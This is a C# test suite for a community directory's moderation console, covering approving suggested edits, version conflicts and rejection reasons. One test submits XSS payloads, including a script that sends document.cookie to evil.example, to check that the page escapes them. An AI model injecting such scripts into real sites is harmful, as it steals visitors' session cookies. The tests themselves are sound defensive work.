using System.Net;
using Microsoft.Extensions.DependencyInjection;
using Signpost.Moderation;
using Signpost.Moderation.Accounts;
using Signpost.Tests.Infrastructure;

namespace Signpost.Tests;

/// <summary>Deciding in the console: the diff, approving, a conflict, not approving with a reason, hostile text.</summary>
[Collection(ModeratedDirectoryCollection.Name)]
public sealed class ConsoleDecisionTests(ModeratedDirectoryFactory api)
{
    // Friday community café (West Essex) and Wednesday lunch club: changed only by these tests.
    private const string FridayCafe = "3c795acb-de6d-5543-9dff-6b5b8ed95efc";
    private const string WednesdayLunch = "a3ab75bc-0689-503f-88cd-4b20c28976e1";

    [Fact]
    public async Task ApprovingASuggestionShowsItsDiffThenAppliesItWithTheAuditNamingThePerson()
    {
        var (id, _) = await SuggestAsync(FridayCafe, new { description = "Hot food and a warm welcome every Friday, now with a <b>quiz</b>." });
        var browser = await SignedInAsync("Priya Shah");

        var page = await browser.HtmlAsync($"/moderate/submissions/{id}");
        Assert.Contains("What approving would change", page);
        Assert.Contains("Hot food and a warm welcome every Friday, now with a &lt;b&gt;quiz&lt;/b&gt;.", page);

        var approved = await browser.SubmitAsync($"/moderate/submissions/{id}", new() { ["expectedVersion"] = ConsoleBrowser.Hidden(page, "expectedVersion") }, $"/moderate/submissions/{id}?handler=Approve");
        Assert.Equal(HttpStatusCode.Redirect, approved.StatusCode);
        Assert.Contains("approved.", await browser.HtmlAsync(approved.Headers.Location!.OriginalString));

        var service = (await (await api.ClientAsync("maya")).RunAsync("ServiceHistory", new { id = FridayCafe })).DataOrFail()["service"]!;
        Assert.Equal("Hot food and a warm welcome every Friday, now with a <b>quiz</b>.", service["description"]!.GetValue<string>());
        Assert.Equal("Priya Shah", service["history"]![0]!["actor"]!.GetValue<string>());
    }

    [Fact]
    public async Task AListingChangedWhileTheModeratorLookedIsShownAsAConflictAndNothingIsApplied()
    {
        var (id, reference) = await SuggestAsync(WednesdayLunch, new { description = "Lunch on Wednesdays, now from noon." });
        var browser = await SignedInAsync("Conflict Tester");
        var page = await browser.HtmlAsync($"/moderate/submissions/{id}");
        var seen = ConsoleBrowser.Hidden(page, "expectedVersion");

        // Meanwhile another moderator verifies the listing: its version rises.
        var maya = await api.ClientAsync("maya");
        (await maya.RunAsync("ModerateService", new { input = new { serviceId = WednesdayLunch, expectedVersion = int.Parse(seen) } }, "Verify")).DataOrFail();

        var late = await browser.SubmitAsync($"/moderate/submissions/{id}", new() { ["expectedVersion"] = seen }, $"/moderate/submissions/{id}?handler=Approve");
        var html = await late.Content.ReadAsStringAsync();

        Assert.Equal(HttpStatusCode.OK, late.StatusCode);
        Assert.Contains("the listing changed while you were looking at it", html);
        Assert.Contains("The listing has changed since this was sent", html);
        Assert.Equal((int.Parse(seen) + 1).ToString(), ConsoleBrowser.Hidden(html, "expectedVersion"));
        Assert.Equal("PENDING", (await SubmissionTests.QueueItemAsync(maya, reference))["status"]!.GetValue<string>());
    }

    [Fact]
    public async Task NotApprovingNeedsAReasonShownBesideItsBoxAndThenRecordsIt()
    {
        var receipt = (await api.Anonymous().RunAsync("SubmitListing", new { input = Listings.KnitAndNatter("Console reject group") })).DataOrFail()["submitListing"]!["reference"]!.GetValue<string>();
        var maya = await api.ClientAsync("maya");
        var id = (await SubmissionTests.QueueItemAsync(maya, receipt))["id"]!.GetValue<string>();
        var browser = await SignedInAsync("Reason Tester");

        var blank = await browser.SubmitAsync($"/moderate/submissions/{id}", new() { ["reason"] = "  " }, $"/moderate/submissions/{id}?handler=Reject");
        var blankHtml = await blank.Content.ReadAsStringAsync();
        Assert.Contains("id=\"reason-error\">Say why it is not approved: the sender sees this.", blankHtml);
        Assert.Contains("aria-describedby=\"reason-error\"", blankHtml);

        var tooLong = await browser.SubmitAsync($"/moderate/submissions/{id}", new() { ["reason"] = new string('x', 501) }, $"/moderate/submissions/{id}?handler=Reject");
        Assert.Contains("The reason must be at most 500 characters (it has 501)", await tooLong.Content.ReadAsStringAsync());

        var rejected = await browser.SubmitAsync($"/moderate/submissions/{id}", new() { ["reason"] = "We already list this group." }, $"/moderate/submissions/{id}?handler=Reject");
        Assert.Equal(HttpStatusCode.Redirect, rejected.StatusCode);
        var decided = await SubmissionTests.QueueItemAsync(maya, receipt, status: "REJECTED");
        Assert.Equal("We already list this group.", decided["reason"]!.GetValue<string>());
        Assert.Equal("Reason Tester", decided["decidedBy"]!.GetValue<string>());
    }

    [Fact]
    public async Task AHostileNewListingIsShownAsInertTextOnItsPage()
    {
        var hostile = Listings.KnitAndNatter("Hostile <img src=x onerror=alert(1)> group")
            .With("description", "<script>document.location='https://evil.example/'+document.cookie</script> A group.");
        var receipt = (await api.Anonymous().RunAsync("SubmitListing", new { input = hostile })).DataOrFail()["submitListing"]!["reference"]!.GetValue<string>();
        var id = (await SubmissionTests.QueueItemAsync(await api.ClientAsync("maya"), receipt))["id"]!.GetValue<string>();
        var browser = await SignedInAsync("Hostile Tester");

        var page = await browser.HtmlAsync($"/moderate/submissions/{id}");

        Assert.Contains("Hostile &lt;img src=x onerror=alert(1)&gt; group", page);
        Assert.Contains("&lt;script&gt;document.location=", page);
        Assert.DoesNotContain("<script", page);
        Assert.DoesNotContain("<img", page);
    }

    private async Task<(string Id, string Reference)> SuggestAsync(string serviceId, object changes)
    {
        var version = (await (await api.ClientAsync("maya")).RunAsync("ServiceHistory", new { id = serviceId })).DataOrFail()["service"]!["version"]!.GetValue<int>();
        var reference = (await api.Anonymous().RunAsync("SuggestChange", new { input = new { serviceId, baseVersion = version, changes } }))
            .DataOrFail()["suggestChange"]!["reference"]!.GetValue<string>();
        var item = await SubmissionTests.QueueItemAsync(await api.ClientAsync("maya"), reference);
        return (item["id"]!.GetValue<string>(), reference);
    }

    private Task<ConsoleBrowser> SignedInAsync(string name) => ConsoleBrowser.SignedInAsync(api, name);
}
